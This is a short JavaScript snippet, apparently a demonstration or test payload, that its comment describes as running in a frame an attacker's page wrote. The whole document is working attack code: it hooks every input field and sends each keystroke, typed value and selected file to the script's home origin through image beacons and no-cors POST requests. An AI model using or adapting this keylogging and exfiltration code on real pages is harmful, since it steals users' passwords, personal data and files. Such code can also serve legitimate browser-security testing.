// In a frame an attacker's page wrote (srcdoc, about:blank, blob:, data:): every keystroke, value
// and file put into its fields goes to the attacker's site, the origin this script came from.
const home = new URL(document.currentScript.src).origin;
const send = (path) => { new Image().src = `${home}${path}`; };
for (const input of document.querySelectorAll('input')) {
  input.addEventListener('keydown', (event) => send(`/keys?k=${encodeURIComponent(event.key)}`));
  input.addEventListener('input', () => send(`/keys?v=${encodeURIComponent(input.value)}`));
  input.addEventListener('change', () => {
    for (const file of input.files ?? []) {
      fetch(`${home}/upload?name=${encodeURIComponent(file.name)}`, { method: 'POST', mode: 'no-cors', body: file }).catch(() => {});
    }
  });
}
